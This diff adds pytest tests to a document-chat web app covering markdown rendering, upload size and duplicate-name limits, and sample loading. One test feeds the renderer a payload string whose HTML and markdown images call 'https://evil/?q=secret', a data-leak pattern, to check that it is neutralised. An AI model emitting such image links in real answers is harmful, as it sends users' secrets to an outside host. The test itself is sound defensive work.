@@ -79,3 +79,52 @@ def test_janitor_deletes_only_abandoned_anonymous_workspaces(library, tmp_path):
         d.owner for d in library.store.list_documents(["anon:old", "anon:active", "user:ann", "shared"])
     }
     assert owners == {"anon:active", "user:ann", "shared"}
+
+
+def test_chat_markdown_neutralises_html_and_images_and_round_trips():
+    from rag.render import chat_markdown, chat_text
+
+    answer = 'See <img src="https://evil/?q=secret"> and ![x](https://evil/?q=secret) [1]'
+    shown = chat_markdown(answer)
+    assert "<img" not in shown and "![" not in shown
+    assert chat_text(shown) == answer
+
+
+class LoggedIn:
+    """Stands in for gr.Request: a login user's request."""
+
+    username = "ann"
+    session_hash = "s1"
+
+
+def test_upload_refuses_oversized_and_duplicate_names_but_ingests_the_rest(library, tmp_path):
+    from dataclasses import replace
+
+    from rag.webapp import WebApp
+
+    library.settings = replace(library.settings, max_upload_mb=1)
+    app = WebApp(library, llm=None, janitor=WorkspaceJanitor(library.store, 3600))
+    (tmp_path / "one").mkdir()
+    (tmp_path / "two").mkdir()
+    (tmp_path / "one" / "a.md").write_text("Alpha document about owls.")
+    (tmp_path / "two" / "a.md").write_text("Another file with the same name.")
+    (tmp_path / "big.txt").write_text("x " * 600_000)
+    paths = [str(tmp_path / "one" / "a.md"), str(tmp_path / "big.txt"), str(tmp_path / "two" / "a.md")]
+    report, *_ = app.ingest(paths, LoggedIn(), progress=lambda *a, **k: None)
+    assert report.splitlines() == [
+        "1 of 3 file(s) in, 2 failed",
+        "a.md: added (1 chunks)",
+        "big.txt: failed: larger than the 1 MB limit",
+        "a.md: failed: another file of this upload has that name",
+    ]
+    assert [d["name"] for d in app.list_documents(LoggedIn())[0]] == ["a.md"]
+
+
+def test_sample_loads_only_into_an_empty_shared_library(library):
+    from rag.webapp import WebApp
+
+    app = WebApp(library, llm=None, janitor=WorkspaceJanitor(library.store, 3600))
+    first, *_ = app.load_sample(LoggedIn(), progress=lambda *a, **k: None)
+    assert "reference/index.md: added" in first
+    again, *_ = app.load_sample(LoggedIn(), progress=lambda *a, **k: None)
+    assert again == "The shared library already has documents; nothing loaded."
